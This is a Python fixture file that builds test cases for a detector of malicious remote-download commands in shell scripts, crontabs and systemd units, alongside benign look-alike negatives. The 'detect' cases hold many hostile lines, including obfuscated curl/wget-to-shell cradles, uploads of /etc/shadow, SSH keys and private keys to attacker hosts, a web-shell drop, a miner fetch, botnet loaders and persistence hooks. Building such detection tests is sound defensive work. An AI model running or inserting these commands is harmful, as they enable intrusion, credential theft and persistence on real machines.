"""Unix shell carriers: sh, bash-cron, cron, systemd, text."""
import base64
from common import C, b64

ART = "Atomic Red Team T1105"
GTFO = "GTFOBins"
SIGMA = "Sigma"
RW = "real-world carrier context"
PV = "parser variant (author)"

# ---------------------------------------------------------------- sh detect
C("h5-sh-art-nscurl-01", ART + " 'File download via nscurl'", "sh",
  "/usr/local/bin/fetch-license-bundle", "detect", r'''
#!/bin/sh
# pulls the license bundle on macOS build agents
nscurl -k "https://licensing.example.net/bundle/license.txt" -o "/tmp/license.txt"
''')

C("h5-sh-gtfobins-hping3-upload-02", GTFO + " hping3 (upload over ICMP)", "sh",
  "/usr/local/sbin/icmp-diag", "detect", r'''
#!/bin/bash
# "latency diagnostics"
hping3 198.51.100.77 --icmp --data 999 --sign kq7 --file /etc/shadow -c 40
''')

C("h5-sh-gtfobins-lp-upload-03", GTFO + " lp (upload to a remote IPP host)", "sh",
  "/opt/print/bin/spool-report", "detect", r'''
#!/bin/sh
REPORT=/var/lib/app/export/customers.csv
lp "$REPORT" -h 203.0.113.140:631
''')

C("h5-sh-gtfobins-restic-upload-04", GTFO + " restic (upload to a rest-server)", "sh",
  "/usr/local/bin/nightly-snapshot", "detect", r'''
#!/bin/sh
export RESTIC_PASSWORD=changeme
restic backup -r rest:http://backup.attacker.example:12345/loot /root/.ssh /etc/kubernetes/pki
''')

C("h5-sh-gtfobins-cancel-upload-05", GTFO + " cancel (upload via -u)", "sh",
  "/usr/lib/cups/backend-helper.sh", "detect", r'''
#!/bin/sh
cancel -h 198.51.100.30:12345 -u "$(base64 -w0 /etc/ssl/private/server.key)"
''')

C("h5-sh-wget2-download-06", PV + " wget2 (GNU Wget2) download then run", "sh",
  "/opt/collector/update.sh", "detect", r'''
#!/bin/sh
set -e
wget2 --quiet --output-document=/opt/collector/bin/collector.new https://dl.telemetry.example/collector/linux-amd64
chmod 0755 /opt/collector/bin/collector.new
mv /opt/collector/bin/collector.new /opt/collector/bin/collector
exec /opt/collector/bin/collector --config /etc/collector.yml
''')

C("h5-sh-axel-download-07", PV + " axel multi-connection downloader", "sh",
  "/usr/local/bin/grab-dataset", "detect", r'''
#!/bin/bash
axel -q -n 8 -o /data/incoming/model.tar.zst "https://mirror.datasets.example/models/v3/model.tar.zst"
tar --zstd -xf /data/incoming/model.tar.zst -C /data/models
''')

C("h5-sh-sigma-decimal-ip-08", SIGMA + " obfuscated IP download (decimal host, 192.0.2.10)", "sh",
  "/etc/profile.d/zz-locale-fix.sh", "detect", r'''
# locale fix
( curl -fsS http://3221225994/l.sh | sh >/dev/null 2>&1 & )
''', executable=False)

C("h5-sh-sigma-hex-ip-09", SIGMA + " obfuscated IP download (hex host, 198.51.100.7)", "sh",
  "/usr/bin/.sysupd", "detect", r'''
#!/bin/sh
cd /var/tmp || cd /dev/shm
wget -q http://0xC6336407:8080/x86_64 -O .k && chmod +x .k && ./.k
''')

C("h5-sh-sigma-curl-useragent-10", SIGMA + " Linux curl with custom user agent to /tmp + exec", "sh",
  "/opt/app/scripts/warmup.sh", "detect", r'''
#!/bin/bash
UA="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"
curl -s -A "$UA" -o /tmp/.cache-warm http://cdn.badcache.example/warm.bin
chmod +x /tmp/.cache-warm
/tmp/.cache-warm --silent
''')

C("h5-sh-art-sftp-pull-11", ART + " 'sftp remote file copy (pull)' single-argument form", "sh",
  "/srv/ops/pull-keys.sh", "detect", r'''
#!/bin/bash
# pull the rotation bundle
sftp -i /srv/ops/.ssh/id_ed25519 -P 2022 rotator@203.0.113.58:/exports/bundle.tgz /srv/ops/incoming/
''')

C("h5-sh-k3s-style-installer-12", RW + " k3s-style installer piped to sh with env prefix", "sh",
  "/usr/local/bin/bootstrap-node", "detect", r'''
#!/bin/sh
curl -sfL https://get.cluster.example/install.sh | INSTALL_EXEC="agent --server https://203.0.113.20:6443" TOKEN=abc123 sh -
''')

C("h5-sh-curl-zstd-pipe-13", PV + " curl piped into zstd -d writing a binary", "sh",
  "/opt/tools/install-ripper.sh", "detect", r'''
#!/bin/sh
curl -sSL https://builds.tools.example/ripper/latest/ripper-x86_64.zst | zstd -d -o /usr/local/bin/ripper
chmod +x /usr/local/bin/ripper
''')

C("h5-sh-default-param-tool-14", PV + " downloader chosen by ${CURL:-curl} default expansion", "sh",
  "/usr/share/agent/fetch.sh", "detect", r'''
#!/bin/sh
: "${AGENT_URL:=https://agent.fleet.example/bin/agent}"
${CURL:-curl} --fail --location --silent --show-error --output /usr/bin/fleet-agent "$AGENT_URL"
chmod 755 /usr/bin/fleet-agent
''')

C("h5-sh-s6-setuidgid-wget-15", PV + " s6-setuidgid wrapper", "sh",
  "/etc/s6-overlay/s6-rc.d/init-fetch/run", "detect", r'''
#!/command/execlineb -P
s6-setuidgid abc wget -q -O /config/custom-init.sh http://198.51.100.44/custom-init.sh
''')

C("h5-sh-chpst-curl-16", PV + " runit chpst wrapper in a service run script", "sh",
  "/etc/service/updater/run", "detect", r'''
#!/bin/sh
exec 2>&1
exec chpst -u nobody:nogroup curl -so /tmp/upd.py https://updates.runit.example/upd.py && python3 /tmp/upd.py
''')

C("h5-sh-line-continuation-17", PV + " curl split over backslash continuations", "sh",
  "/docker-entrypoint.d/20-fetch-plugins.sh", "detect", r'''
#!/bin/sh
set -eu
for p in auth metrics; do
  curl \
    --retry 5 \
    --retry-delay 2 \
    -fsSL \
    "https://plugins.gateway.example/v2/${p}.so" \
    -o "/usr/lib/gateway/plugins/${p}.so"
done
''')

C("h5-sh-heredoc-tabs-bash-18", PV + " here-doc with <<- fed to bash", "sh",
  "/usr/local/lib/provision/stage2.sh", "detect", "#!/bin/sh\nif [ \"$(id -u)\" = 0 ]; then\n\tbash <<-EOS\n\t\tcd /opt\n\t\twget -q https://stage.provision.example/stage2.tar.gz\n\t\ttar xzf stage2.tar.gz && ./stage2/install\n\tEOS\nfi\n")

C("h5-sh-base32-decode-exec-19", PV + " base32 -d piped into sh", "sh",
  "/var/lib/dpkg/info/libfoo-helper.postinst", "detect",
  "#!/bin/sh\nset -e\n"
  "echo " + base64.b32encode(b"curl -s http://203.0.113.45/p.sh | sh").decode() + " | base32 -d | sh\n"
  "exit 0\n")

C("h5-sh-printf-hex-escape-20", PV + " printf hex escapes spelling wget piped to sh", "sh",
  "/usr/local/bin/mdadm-check", "detect",
  "#!/bin/bash\nprintf '" + "".join("\\x%02x" % ord(ch) for ch in "wget -qO- http://198.51.100.9/m.sh") + "' | bash\n")

C("h5-sh-tool-from-base64-21", PV + " tool name decoded from base64 in a command substitution", "sh",
  "/opt/.cache/.r/run.sh", "detect", r'''
#!/bin/bash
T=$(echo Y3VybA== | base64 -d)
$T -skL http://203.0.113.90/xmr.tar.gz -o /tmp/.x.tgz && tar xzf /tmp/.x.tgz -C /tmp && /tmp/xmrig -B
''')

C("h5-sh-expect-scp-pull-22", PV + " expect script spawning scp pull", "sh",
  "/usr/local/bin/fetch-firmware.exp", "detect", r'''
#!/usr/bin/expect -f
set timeout 60
spawn scp -o StrictHostKeyChecking=no fw@203.0.113.71:/srv/fw/router.img /var/lib/fw/router.img
expect "password:"
send "Fw2024!\r"
expect eof
''')

C("h5-sh-curl-smb-scheme-23", PV + " curl smb:// download", "sh",
  "/opt/migrate/get-share.sh", "detect", r'''
#!/bin/sh
curl -s -u 'CORP\svc_build:Winter2024' smb://files.corp.example/tools/agent.bin -o /opt/migrate/agent.bin
''')

C("h5-sh-curl-tftp-scheme-24", PV + " curl tftp:// download", "sh",
  "/usr/sbin/pxe-cfg-refresh", "detect", r'''
#!/bin/sh
curl -s tftp://198.51.100.12/pxelinux.cfg/default -o /srv/tftp/pxelinux.cfg/default
curl -s tftp://198.51.100.12/boot/vmlinuz -o /srv/tftp/boot/vmlinuz
''')

C("h5-sh-finger-linux-download-25", GTFO + " finger (download)", "sh",
  "/usr/local/bin/motd-refresh", "detect", r'''
#!/bin/sh
finger motd@203.0.113.33 | tail -n +2 > /tmp/.m && sh /tmp/.m
''')

C("h5-sh-nfs-mount-copy-26", PV + " NFS mount of a remote export then copy", "sh",
  "/usr/local/sbin/stage-tools", "detect", r'''
#!/bin/sh
STAGE=$(mktemp -d)
mount.nfs4 198.51.100.3:/export/tools "$STAGE" -o ro
install -m 0755 "$STAGE/agent" /usr/local/bin/agent
umount "$STAGE"; rmdir "$STAGE"
/usr/local/bin/agent --enroll
''')

C("h5-sh-sysv-init-start-stop-27", PV + " start-stop-daemon --exec wget in a SysV init script", "sh",
  "/etc/init.d/cfgsync", "detect", r'''
#!/bin/sh
### BEGIN INIT INFO
# Provides:          cfgsync
# Required-Start:    $network
# Default-Start:     2 3 4 5
### END INIT INFO
case "$1" in
  start)
    start-stop-daemon --start --background --exec /usr/bin/wget -- -q -O /etc/cfgsync/current.conf http://cfg.fleet.example/current.conf
    ;;
  stop) : ;;
esac
''')

C("h5-sh-rc-local-28", RW + " /etc/rc.local dropper", "sh",
  "/etc/rc.local", "detect", r'''
#!/bin/sh -e
# rc.local
/usr/bin/curl -fsSLo /usr/sbin/kthreadd2 http://203.0.113.66/k && /usr/sbin/kthreadd2 &
exit 0
''')

C("h5-sh-bashrc-alias-29", RW + " download hidden in /root/.bashrc", "sh",
  "/root/.bashrc", "detect", r'''
# ~/.bashrc: executed by bash(1) for non-login shells.
export PS1='\u@\h:\w\$ '
alias ll='ls -alF'
[ -f /tmp/.b ] || wget -q -O /tmp/.b http://198.51.100.200/b >/dev/null 2>&1 && sh /tmp/.b &
''', executable=False)

C("h5-sh-tini-entrypoint-30", RW + " tini entrypoint running sh -c with a cradle", "sh",
  "/usr/local/bin/entrypoint.sh", "detect", r'''
#!/bin/sh
set -e
if [ -n "$BOOTSTRAP" ]; then
  exec /sbin/tini -- sh -c "wget -qO- https://bootstrap.platform.example/node.sh | sh && exec $*"
fi
exec /sbin/tini -- "$@"
''')

C("h5-sh-printf-xargs-31", PV + " URLs fed to xargs -n1 curl -O", "sh",
  "/opt/theme/install-fonts.sh", "detect", r'''
#!/bin/sh
cd /usr/share/fonts/custom
printf '%s\n' \
  https://fonts.assets.example/inter.ttf \
  https://fonts.assets.example/mono.ttf \
  | xargs -n1 curl -fsSLO
''')

C("h5-sh-lftp-mirror-32", GTFO + " ftp family: lftp -c mirror", "sh",
  "/srv/jobs/mirror-drop.sh", "detect", r'''
#!/bin/sh
lftp -c "open -u drop,drop ftp://203.0.113.150; mirror --parallel=4 /outgoing /srv/drop/incoming; bye"
''')

C("h5-sh-scp-push-glob-33", ART + " 'scp remote file copy (push)' with glob", "sh",
  "/usr/local/bin/ship-backups", "detect", r'''
#!/bin/bash
shopt -s nullglob
scp -q -i /root/.ssh/ship_key /var/backups/*.sql.gz backup@198.51.100.9:~/incoming/
''')

C("h5-sh-perl-socket-oneliner-34", GTFO + " perl one-liner with IO::Socket::INET (download)", "sh",
  "/usr/local/bin/pget", "detect", r'''
#!/bin/sh
perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>"203.0.113.25:80");print $s "GET /p HTTP/1.0\r\nHost: x\r\n\r\n";open(F,">/tmp/p");print F <$s>' && sh /tmp/p
''')

C("h5-sh-php-r-fopen-35", GTFO + " php -r file_put_contents(fopen(url))", "sh",
  "/var/www/bin/refresh-cache", "detect", r'''
#!/bin/sh
php -r 'file_put_contents("/var/www/html/wp-content/uploads/cache.php", fopen("http://198.51.100.81/shell.txt", "r"));'
''')

C("h5-sh-ruby-e-copy-stream-36", GTFO + " ruby -e IO.copy_stream(URI.open)", "sh",
  "/usr/local/bundle/bin/sync-assets", "detect", r'''
#!/bin/sh
exec ruby -ropen-uri -e 'IO.copy_stream(URI.open("https://assets.cdn.example/app.js"), "/app/public/app.js")'
''')

C("h5-sh-socat-open-creat-37", GTFO + " socat download into OPEN:...,creat", "sh",
  "/opt/net/recv.sh", "detect", r'''
#!/bin/sh
socat -u TCP:203.0.113.8:9001 OPEN:/usr/local/bin/helper,creat,trunc && chmod +x /usr/local/bin/helper
''')

C("h5-sh-wget-proxy-e-38", PV + " wget -e use_proxy/http_proxy options", "sh",
  "/opt/build/fetch-deps.sh", "detect", r'''
#!/bin/sh
wget -e use_proxy=yes -e http_proxy=http://proxy.corp.example:3128 \
     -P /opt/build/deps http://artifacts.corp.example/deps/libcore-2.4.1.tar.gz
''')

C("h5-sh-gafgyt-tftp-c-get-39", RW + " Gafgyt-style loader with wget || curl and tftp -c get", "sh",
  "/tmp/bins.sh", "detect", r'''
#!/bin/sh
cd /tmp || cd /var/run || cd /mnt
wget http://198.51.100.150/bins/sora.arm7 || curl -O http://198.51.100.150/bins/sora.arm7
chmod 777 sora.arm7; ./sora.arm7 router
tftp 198.51.100.150 -c get sora.mips; chmod 777 sora.mips; ./sora.mips router
''')

C("h5-sh-node-e-https-pipe-40", GTFO + " node -e https.get pipe to file", "sh",
  "/usr/local/share/npm-global/bin/postfetch", "detect", r'''
#!/bin/sh
node -e 'require("https").get("https://cdn.pkgs.example/native/addon.node", r => r.pipe(require("fs").createWriteStream("/usr/lib/node/addon.node")))'
''')

# ---------------------------------------------------------------- sh silent
C("h5-sh-silent-docker-cp-01", "look-alike: docker cp between container and host", "sh",
  "/usr/local/bin/docker-info", "silent", r'''
#!/bin/sh
# copy the app log out of the sidecar container for inspection
docker cp app:/var/log/app/current.log /tmp/app-current.log
docker cp /etc/app/debug.conf app:/etc/app/debug.conf
''')

C("h5-sh-silent-wget-spider-loopback-02", "look-alike: wget --spider to 127.0.0.1 readiness", "sh",
  "/usr/local/bin/ready-check", "silent", r'''
#!/bin/sh
until wget -q --spider http://127.0.0.1:8080/ready; do
  echo "waiting for app"; sleep 2
done
''')

C("h5-sh-silent-usage-text-03", "look-alike: usage text naming curl/scp", "sh",
  "/usr/local/bin/sync-tool", "silent", r'''
#!/bin/sh
usage() {
  cat <<'EOF'
sync-tool: copy release artefacts between local directories.
This tool does NOT use curl, wget or scp; mirror remote files yourself first, e.g.
    curl -O https://releases.example.com/app.tar.gz
EOF
}
[ $# -lt 2 ] && { usage; exit 1; }
rsync -a --delete "$1"/ "$2"/
''')

C("h5-sh-silent-version-probe-04", "look-alike: feature probing with --version", "sh",
  "/opt/diag/tools-report.sh", "silent", r'''
#!/bin/sh
for t in curl wget aria2c scp sftp; do
  if command -v "$t" >/dev/null 2>&1; then
    printf '%-8s %s\n' "$t" "$("$t" --version 2>&1 | head -n1)"
  fi
done
''')

C("h5-sh-silent-install-local-05", "look-alike: install of a locally built binary", "sh",
  "/build/scripts/install.sh", "silent", r'''
#!/bin/sh
set -e
install -m 0755 ./target/release/fetcher /usr/local/bin/fetcher
install -m 0644 ./contrib/fetcher.conf /etc/fetcher.conf
''')

C("h5-sh-silent-microdnf-06", "look-alike: microdnf install from configured repositories", "sh",
  "/usr/local/bin/setup-deps", "silent", r'''
#!/bin/sh
microdnf -y install curl-minimal wget2 tar gzip
microdnf clean all
''')

C("h5-sh-silent-ipv6-loopback-07", "look-alike: curl to [::1] metrics", "sh",
  "/usr/local/bin/scrape-self-v6", "silent", r'''
#!/bin/sh
curl -g -fsS 'http://[::1]:9100/metrics' -o /var/lib/node_exporter/last.prom
''')

C("h5-sh-silent-log-grep-08", "look-alike: grep of access logs for downloader user agents", "sh",
  "/usr/local/bin/ua-audit", "silent", r'''
#!/bin/sh
# count requests made by scripted clients
grep -cE '"(curl|Wget|python-requests)/' /var/log/nginx/access.log
''')

C("h5-sh-silent-var-names-09", "look-alike: variables named after tools", "sh",
  "/etc/default/fetchd", "silent", r'''
# defaults for fetchd
WGET_TIMEOUT=30
CURL_RETRIES=3
SCP_TARGET_DIR=/var/lib/fetchd
DOWNLOAD_DIR=/var/cache/fetchd
''', executable=False)

C("h5-sh-silent-echo-instructions-10", "look-alike: echo of manual steps", "sh",
  "/usr/local/bin/upgrade-hint", "silent", r'''
#!/bin/sh
echo "A newer release is available."
echo "To upgrade run:  wget https://releases.example.com/app-2.0.tar.gz && tar xzf app-2.0.tar.gz"
echo "or read the upgrade notes in /usr/share/doc/app/UPGRADE."
''')

# ---------------------------------------------------------------- bash-cron
C("h5-bcron-daily-wget-mirror-01", RW + " cron.daily with wget --mirror of a remote site", "bash-cron",
  "/etc/cron.daily/refresh-blocklists", "detect", r'''
#!/bin/bash
wget --mirror --no-parent --no-host-directories -P /var/lib/blocklists http://lists.filters.example/current/
systemctl reload squid
''')

C("h5-bcron-hourly-curl-pipe-python-02", RW + " cron.hourly curl piped to python3", "bash-cron",
  "/etc/cron.hourly/0stats", "detect", r'''
#!/bin/sh
curl -fsS https://stats.collector.example/agent.py | python3 - --once >/dev/null 2>&1
''')

C("h5-bcron-weekly-rsync-pull-03", ART + " 'rsync remote file copy (pull)' in cron.weekly", "bash-cron",
  "/etc/cron.weekly/pull-geoip", "detect", r'''
#!/bin/sh
rsync -az --timeout=60 geo@198.51.100.101:/srv/geoip/ /usr/share/GeoIP/
''')

C("h5-bcron-monthly-scp-push-04", ART + " 'scp remote file copy (push)' in cron.monthly", "bash-cron",
  "/etc/cron.monthly/archive-logs", "detect", r'''
#!/bin/bash
tar czf /tmp/logs-$(date +%Y%m).tgz /var/log/app
scp -q /tmp/logs-$(date +%Y%m).tgz archive@archive.corp.example:/archive/
rm -f /tmp/logs-$(date +%Y%m).tgz
''')

C("h5-bcron-silent-logrotate-01", "look-alike: stock logrotate cron script", "bash-cron",
  "/etc/cron.daily/00logrotate", "silent", r'''
#!/bin/sh
[ -x /usr/sbin/logrotate ] || exit 0
/usr/sbin/logrotate /etc/logrotate.conf
EXITVALUE=$?
[ $EXITVALUE != 0 ] && /usr/bin/logger -t logrotate "ALERT exited abnormally with [$EXITVALUE]"
exit $EXITVALUE
''')

C("h5-bcron-silent-local-ping-02", "look-alike: curl to localhost cache purge", "bash-cron",
  "/etc/cron.hourly/purge-cache", "silent", r'''
#!/bin/sh
curl -s -X PURGE -H 'X-Purge-All: 1' 'http://[::1]:6081/' >/dev/null && logger -t purge-cache ok
''')

# ---------------------------------------------------------------- cron
C("h5-cron-d-user-wget-sh-01", RW + " /etc/cron.d with user field, wget | sh", "cron",
  "/etc/cron.d/sys-health", "detect", r'''
MAILTO=""
# health
*/15 * * * * root (wget -qO- http://203.0.113.77/h.sh || curl -fsSL http://203.0.113.77/h.sh) | sh >/dev/null 2>&1
''')

C("h5-cron-spool-reboot-curl-02", RW + " user crontab @reboot curl -o and run", "cron",
  "/var/spool/cron/crontabs/nginx", "detect", r'''
# DO NOT EDIT THIS FILE - edit the master and reinstall.
@reboot /usr/bin/curl -s http://198.51.100.19/w -o /tmp/.w; /bin/sh /tmp/.w
''')

C("h5-cron-etc-crontab-b64-03", RW + " /etc/crontab with base64-decoded cradle", "cron",
  "/etc/cron.d/run-parts-hourly", "detect",
  "SHELL=/bin/bash\nPATH=/sbin:/bin:/usr/sbin:/usr/bin\n"
  "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n"
  "*/5 * * * * root echo " + b64("curl -fsSL http://203.0.113.91/c.sh | bash") + " | base64 -d | bash\n")

C("h5-cron-d-python-oneliner-04", GTFO + " python one-liner in cron.d", "cron",
  "/etc/cron.d/feeds", "detect", r'''
0 */6 * * * nobody /usr/bin/python3 -c "import urllib.request as r; r.urlretrieve('https://feeds.intel.example/ioc.json', '/var/lib/feeds/ioc.json')"
''')

C("h5-cron-rhel-spool-aria2c-05", RW + " RHEL-style /var/spool/cron/<user> with aria2c", "cron",
  "/var/spool/cron/deploy", "detect", r'''
MAILTO=""
30 2 * * * aria2c -q -d /home/deploy/releases -o latest.tgz https://ci.builds.example/artifacts/latest.tgz
''')

C("h5-cron-d-smbclient-get-06", GTFO + " smbclient get (download) in cron.d", "cron",
  "/etc/cron.d/pull-price-list", "detect", r'''
45 5 * * 1-5 app smbclient //files.corp.example/finance -N -c 'get prices.xlsx /srv/app/data/prices.xlsx'
''')

C("h5-cron-d-pgrep-guard-07", RW + " Kinsing-style guard (pgrep || curl)", "cron",
  "/etc/cron.d/kdevtmpfs", "detect", r'''
* * * * * root pgrep -x kdevtmpfsi >/dev/null || (curl -s 198.51.100.88/kd -o /tmp/kdevtmpfsi && chmod +x /tmp/kdevtmpfsi && /tmp/kdevtmpfsi)
''')

C("h5-cron-silent-local-rsync-01", "look-alike: local rsync mirror", "cron",
  "/etc/cron.d/www-local-backup", "silent", r'''
# nightly local mirror of the web root (no remote host involved)
MAILTO=""
20 1 * * * root rsync -a --delete /var/www/ /srv/backup/www/ && logger -t www-backup done
''')

C("h5-cron-silent-local-metrics-02", "look-alike: curl to localhost pushgateway", "cron",
  "/etc/cron.d/push-metrics", "silent", r'''
*/1 * * * * nobody /usr/local/bin/collect | curl -s --data-binary @- http://localhost:9091/metrics/job/collect
''')

C("h5-cron-silent-comment-03", "look-alike: commented-out download job", "cron",
  "/var/spool/cron/crontabs/backup", "silent", r'''
# m h dom mon dow command
# disabled 2024-03: we no longer pull from the old mirror
# 0 3 * * * wget -q http://mirror.example.com/db.tar.gz -O /srv/db.tar.gz
0 3 * * * /usr/local/bin/backup-local --target /srv/backups
''')

# ---------------------------------------------------------------- systemd
C("h5-systemd-execstartpre-curl-01", RW + " ExecStartPre curl fetching the binary", "systemd",
  "/etc/systemd/system/edge-node-agent.service", "detect", r'''
[Unit]
Description=Edge agent
Wants=network-online.target
After=network-online.target

[Service]
ExecStartPre=/usr/bin/curl -fsSL -o /usr/local/bin/edge-agent https://edge.fleet.example/agent/linux-amd64
ExecStartPre=/bin/chmod 0755 /usr/local/bin/edge-agent
ExecStart=/usr/local/bin/edge-agent run
Restart=always

[Install]
WantedBy=multi-user.target
''')

C("h5-systemd-dropin-override-wget-02", PV + " drop-in override replacing ExecStart with a wget cradle", "systemd",
  "/etc/systemd/system/cron.service.d/override.conf", "detect", r'''
[Service]
ExecStart=
ExecStart=/bin/sh -c 'wget -qO- http://203.0.113.201/init | sh; exec /usr/sbin/cron -f'
''')

C("h5-systemd-user-unit-python-03", RW + " user unit running a Python cradle", "systemd",
  "/home/dev/.config/systemd/user/sync.service", "detect", r'''
[Unit]
Description=Notes sync

[Service]
Type=oneshot
ExecStart=/usr/bin/python3 -c "import urllib.request;exec(urllib.request.urlopen('https://sync.notes.example/s.py').read())"

[Install]
WantedBy=default.target
''')

C("h5-systemd-environment-url-04", PV + " URL held in Environment= and expanded in ExecStart", "systemd",
  "/usr/lib/systemd/system/model-fetch.service", "detect", r'''
[Unit]
Description=Fetch inference model
Before=inference.service

[Service]
Type=oneshot
Environment=MODEL_URL=https://models.registry.example/resnet/latest.onnx
ExecStart=/usr/bin/wget -q -O /var/lib/inference/model.onnx ${MODEL_URL}
RemainAfterExit=yes

[Install]
RequiredBy=inference.service
''')

C("h5-systemd-timer-service-scp-05", ART + " scp pull in a timer-driven service", "systemd",
  "/etc/systemd/system/pull-config.service", "detect", r'''
[Unit]
Description=Pull configuration from the config host

[Service]
Type=oneshot
User=cfg
ExecStart=/usr/bin/scp -o BatchMode=yes cfg@config.corp.example:/srv/config/app.yaml /etc/app/app.yaml
''')

C("h5-systemd-execstartpost-rsync-push-06", ART + " rsync push in ExecStopPost", "systemd",
  "/etc/systemd/system/recorder.service", "detect", r'''
[Unit]
Description=Session recorder

[Service]
ExecStart=/usr/local/bin/recorder --out /var/lib/recorder
ExecStopPost=/usr/bin/rsync -a /var/lib/recorder/ collector@198.51.100.140:/data/recordings/
''')

C("h5-systemd-pwsh-linux-07", PV + " pwsh on Linux in ExecStart with iwr", "systemd",
  "/etc/systemd/system/pwsh-telemetry-shim.service", "detect", r'''
[Unit]
Description=PowerShell telemetry shim

[Service]
ExecStart=/usr/bin/pwsh -NoProfile -Command "iwr https://203.0.113.160/t.ps1 -OutFile /tmp/t.ps1; & /tmp/t.ps1"
''')

C("h5-systemd-silent-ready-probe-01", "look-alike: loopback readiness ExecStartPost", "systemd",
  "/etc/systemd/system/orders-api.service", "silent", r'''
[Unit]
Description=API server
Documentation=https://docs.example.com/api

[Service]
ExecStart=/usr/local/bin/api --listen 127.0.0.1:8000
ExecStartPost=/bin/sh -c 'until curl -sf http://127.0.0.1:8000/healthz; do sleep 1; done'
''')

C("h5-systemd-silent-local-binary-02", "look-alike: unit after network-online running a local binary", "systemd",
  "/usr/lib/systemd/system/downloader-cleanup.service", "silent", r'''
[Unit]
Description=Clean stale partial downloads
After=network-online.target

[Service]
Type=oneshot
ExecStart=/usr/bin/find /var/cache/downloads -name '*.part' -mtime +2 -delete
''')

C("h5-systemd-silent-timer-03", "look-alike: timer unit only", "systemd",
  "/etc/systemd/system/fetch-mail.timer", "silent", r'''
[Unit]
Description=Run fetch-mail every 10 minutes

[Timer]
OnBootSec=2min
OnUnitActiveSec=10min
Unit=fetch-mail.service

[Install]
WantedBy=timers.target
''')

# ---------------------------------------------------------------- text (silent)
C("h5-text-silent-wgetrc-01", "look-alike: /etc/wgetrc configuration", "text",
  "/etc/wgetrc", "silent", r'''
# Global settings for Wget.
#https_proxy = http://proxy.example.com:18023/
#http_proxy = http://proxy.example.com:18023/
#tries = 20
#timestamping = off
passive_ftp = on
''')

C("h5-text-silent-readme-install-02", "look-alike: README with an install snippet", "text",
  "/usr/share/doc/fetcher/README.md", "silent", r'''
# fetcher

Install the latest release:

```sh
curl -fsSL https://releases.example.com/fetcher/install.sh | sh
```

or download a tarball with `wget` and unpack it into `/usr/local`.
''')

C("h5-text-silent-access-log-03", "look-alike: web server access log lines", "text",
  "/var/log/nginx/files.access.log.1", "silent", r'''
203.0.113.5 - - [12/Mar/2025:10:01:02 +0000] "GET /bin/agent HTTP/1.1" 200 5123 "-" "Wget/1.21.4"
198.51.100.7 - - [12/Mar/2025:10:01:09 +0000] "GET /install.sh HTTP/1.1" 200 811 "-" "curl/8.5.0"
''')

C("h5-text-silent-changelog-04", "look-alike: changelog mentioning certutil/bitsadmin", "text",
  "/opt/win/h5/docs/CHANGELOG.txt", "silent", r'''
2.3.0
 - Removed the legacy updater that used certutil -urlcache and bitsadmin /transfer.
 - Updates are now delivered by the MSI only.
''')

C("h5-text-silent-curlrc-05", "look-alike: ~/.curlrc defaults", "text",
  "/root/.curlrc", "silent", r'''
# default options
--retry 3
--connect-timeout 10
--silent
--show-error
''')
